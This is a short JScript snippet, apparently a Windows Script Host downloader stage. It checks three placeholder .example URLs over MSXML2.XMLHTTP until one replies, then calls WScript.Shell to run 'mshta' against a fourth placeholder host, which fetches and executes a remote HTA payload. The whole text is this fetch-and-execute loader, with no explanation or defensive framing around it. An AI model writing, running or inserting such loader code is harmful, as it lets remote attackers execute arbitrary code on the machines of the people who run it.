
var l=["http://jf-a.example/a","http://jf-b.example/b","http://jf-c.example/c"], ok=false;
for (var i in l) { if (ok) break; try { var h=new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", l[i], false); h.send(); ok = h.status == 200; } catch(e) {} }
if (ok) new ActiveXObject("WScript.Shell").Run("mshta http://jf-d.example/d");
